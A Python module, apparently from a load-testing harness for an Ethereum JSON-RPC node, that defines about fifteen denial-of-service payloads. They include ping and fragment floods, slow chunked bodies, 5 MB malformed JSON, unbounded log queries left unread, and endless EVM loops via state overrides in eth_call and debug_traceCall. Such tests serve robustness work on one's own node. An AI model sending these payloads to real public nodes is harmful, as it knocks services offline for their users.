"""What hostile clients send: each attack is prepared once, and needs nothing but bytes from then on.

An attack keeps to what an anonymous client may send. Contracts exist by state override or as creation code
only, so any chain will do; a node with blocks full of logs has more to answer to `unread replies`.
"""

import json
from collections.abc import Callable, Mapping, Sequence
from typing import NamedTuple, Self
from urllib.parse import urlsplit

from wsnode.load.frames import PING, masked_frame, request_frame

CLIENTS = 10
TEXT_BYTES = 5_000_000
"""Of a large text: what wsnode takes by default is a little more."""
CONTINUATION = 0
CONTRACT = "0x00000000000000000000000000000000c0ffee00"
BLAKE2F = "0x0000000000000000000000000000000000000009"
ROUNDS = 25_000_000
LOOP = "0x5b600056"
"""JUMPDEST, PUSH1 0, JUMP: no end but that of the gas."""
LARGE_RETURN = "0x620f42405ff3"
"""PUSH3 1,000,000, PUSH0, RETURN: two megabytes of digits."""
LOADED_WORDS = "7f" + "ff" * 31 + "fd" + "7f80" + "00" * 30 + "01"
"""PUSH32 twice: two words that take long to multiply."""
BODY_BYTES = 24_000
SLOTS = 20_000
AT_ONCE = 8192


class Target(NamedTuple):
    """Where HTTP requests go, and how many connections all clients open at most."""

    host: str
    path: str
    connections: int

    @classmethod
    def of_url(cls, url: str, connections: int) -> Self:
        """Return the target of HTTP requests to the node at a WebSocket URL."""
        place = urlsplit(url)
        return cls(place.netloc, place.path.removeprefix("/ws") or "/", connections)


class Attack(NamedTuple):
    """What each connection sends: `opening` once, then `bursts` by turns, `pause` seconds between two."""

    opening: bytes = b""
    bursts: Sequence[bytes] = ()
    pause: float = 0.0
    reads: bool = True
    is_http: bool = False
    connections: int = 1
    """Of each client."""
    is_together: bool = False
    """Whether all connections send at the same moments, `pause` seconds apart."""

    def due_after(self, now: float, pause: float) -> float:
        """Return when a connection that has sent a burst `now` is to send the next one."""
        due = now + pause
        return due - due % pause if self.is_together else due


def calm(_target: Target) -> Attack:
    """Nothing at all: what the probe waits without an attack."""
    return Attack(connections=0)


def pings(_target: Target) -> Attack:
    """Send pings without a payload."""
    return Attack(bursts=[masked_frame(b"", PING) * AT_ONCE])


def empty_fragments(_target: Target) -> Attack:
    """Go on with a message, without a byte of it."""
    return Attack(unfinished(b"", 1), [unfinished(b"", CONTINUATION) * AT_ONCE])


def one_byte_chunks(target: Target) -> Attack:
    """Send a body in chunks of one byte."""
    chunked = (post_head(target) + "Transfer-Encoding: chunked\r\n\r\n").encode()
    return Attack(chunked, [b"1\r\n[\r\n" * AT_ONCE], is_http=True)


def pipelined_posts(target: Target) -> Attack:
    """Ask by HTTP, without waiting for replies."""
    return Attack(bursts=[post_of(target) * 512], is_http=True)


def posts_at_once(target: Target) -> Attack:
    """Ask by HTTP on five thousand connections at the same moment, every three seconds."""
    return Attack(bursts=[post_of(target)], pause=3.0, is_http=True, connections=500, is_together=True)


def large_texts(_target: Target) -> Attack:
    """Send texts of 5 MB that take long to read, or to refuse."""
    zeros = b"0," * (TEXT_BYTES // 2) + b"0"
    halves = rb'"\ud800",' * (TEXT_BYTES // 9)
    duration = "1ns" * (TEXT_BYTES // 3)
    texts = (
        b"[" + zeros + b"]",
        rb'{"jsonrpc":"2.0","id":"\ud800","method":"eth_chainId","params":[' + zeros + b"]}",
        b"[" + halves + rb'"\ud800"]',
        b'{"jsonrpc":"2.0","id":1,"method":"eth_feeHistory","params":["0x1","latest",[' + zeros + b"]]}",
        request_text(1, "debug_traceCall", [{"to": CONTRACT}, "latest", {"timeout": duration}]),
    )
    return Attack(bursts=list(map(masked_frame, texts)), pause=0.2)


def unread_replies(_target: Target) -> Attack:
    """Ask for much, and read nothing of it."""
    everything = {"fromBlock": "earliest", "toBlock": "latest"}
    logs = request_frame(1, "eth_getLogs", [everything])
    receipts = request_frame(1, "eth_getBlockReceipts", ["latest"])
    return Attack(bursts=[logs * 16, receipts * 16, large_calls() * 4], pause=0.1, reads=False)


def inline_work(_target: Target) -> Attack:
    """Have code run that spends its gas slowly, without a jump or a call until it has spent much."""
    moved = {BLAKE2F: {"movePrecompileToAddress": CONTRACT}}
    hashed = {"to": CONTRACT, "data": f"0x{ROUNDS:08x}" + "00" * 208 + "01"}
    calls = (
        request_frame(1, "eth_call", [{"data": code_loop(LOADED_WORDS, "8181830950")}, "latest"]),
        request_frame(1, "eth_call", [{"data": code_loop("", "4750")}, "latest"]),
        request_frame(1, "eth_call", [hashed, "latest", moved]),
    )
    return Attack(bursts=[call * 8 for call in calls], pause=0.5)


def slow_calls(_target: Target) -> Attack:
    """Have calls and traces without an end in flight on many connections."""
    loop, overrides = {"to": CONTRACT}, {CONTRACT: {"code": LOOP}}
    traced = {"tracer": "callTracer", "timeout": "60s", "stateOverrides": overrides}
    calls = (
        request_frame(1, "eth_call", [loop, "latest", overrides]),
        request_frame(1, "debug_traceCall", [loop, "latest", traced]),
    )
    return Attack(bursts=calls, pause=1.0, connections=24)


def proofs_and_overrides(_target: Target) -> Attack:
    """Ask for proofs at the first block, and simulate with many overridden slots."""
    requests = (
        request_frame(1, "eth_getProof", [CONTRACT, ["0x1"], "0x1"]) * 16,
        simulation(SLOTS),
    )
    return Attack(bursts=requests, pause=0.5)


def simulation(slots: int) -> bytes:
    """Return the frame of an eth_simulateV1 request that overrides `slots` storage slots of a contract."""
    difference = {f"0x{number:064x}": f"0x{number + 1:064x}" for number in range(slots)}
    simulated = {"blockStateCalls": [{"stateOverrides": {CONTRACT: {"stateDiff": difference}}}]}
    return request_frame(1, "eth_simulateV1", [simulated, "latest"])


def filters(_target: Target) -> Attack:
    """Create filters, a thousand at a time."""
    batch = batch_text([("eth_newBlockFilter", [])] * 1000)
    return Attack(bursts=[masked_frame(batch)], pause=0.2)


def subscriptions(_target: Target) -> Attack:
    """Subscribe to new heads, a thousand times on each connection."""
    return Attack(request_frame(1, "eth_subscribe", ["newHeads"]) * 1000, connections=20)


def many_connections(target: Target) -> Attack:
    """Open idle connections."""
    return Attack(connections=target.connections // CLIENTS)


def unfinished_messages(_target: Target) -> Attack:
    """Hold what the node has received of messages that do not end."""
    return Attack(unfinished(b" " * TEXT_BYTES, 1), connections=8)


def held_calls(_target: Target) -> Attack:
    """Have slow calls wait for a client that never reads."""
    slow = ("eth_call", [{"data": code_loop("611300", "5a50", 200)}, "latest"])
    pair = masked_frame(batch_text([slow, slow]))
    return Attack(large_calls() + pair * 64, reads=False, connections=5)


ATTACKS: Mapping[str, Callable[[Target], Attack]] = {
    "no attack": calm,
    "pings": pings,
    "empty fragments": empty_fragments,
    "one-byte chunks": one_byte_chunks,
    "pipelined posts": pipelined_posts,
    "posts at once": posts_at_once,
    "large texts": large_texts,
    "unread replies": unread_replies,
    "inline work": inline_work,
    "slow calls": slow_calls,
    "proofs and overrides": proofs_and_overrides,
    "filters": filters,
    "subscriptions": subscriptions,
    "connections": many_connections,
    "unfinished messages": unfinished_messages,
    "held calls": held_calls,
}


def unfinished(payload: bytes, opcode: int) -> bytes:
    """Return a frame that is not the last one of its message."""
    frame = masked_frame(payload, opcode)
    return bytes([frame[0] & 0x7F]) + frame[1:]


def post_of(target: Target) -> bytes:
    """Return a request by HTTP."""
    body = request_text(1, "eth_chainId")
    return f"{post_head(target)}Content-Length: {len(body)}\r\n\r\n".encode() + body


def post_head(target: Target) -> str:
    """Return the head of a POST, up to the headers that tell its length."""
    return f"POST {target.path} HTTP/1.1\r\nHost: {target.host}\r\nContent-Type: application/json\r\n"


def request_text(identity: int, method: str, params: Sequence[object] = ()) -> bytes:
    """Return a request."""
    return json.dumps({"jsonrpc": "2.0", "id": identity, "method": method, "params": params}).encode()


def batch_text(calls: Sequence[tuple[str, Sequence[object]]]) -> bytes:
    """Return a batch."""
    return b"[" + b",".join(request_text(number, *call) for number, call in enumerate(calls)) + b"]"


def large_calls() -> bytes:
    """Return the frame of a batch whose replies have 24 MB."""
    overrides = {CONTRACT: {"code": LARGE_RETURN}}
    return masked_frame(batch_text([("eth_call", [{"to": CONTRACT}, "latest", overrides])] * 12))


def code_loop(head: str, unit: str, repeats: int | None = None) -> str:
    """Return creation code that runs `unit` again and again, jumping back only after many of them."""
    count = repeats or BODY_BYTES * 2 // len(unit)
    return f"0x{head}5b{unit * count}61{len(head) // 2:04x}56"
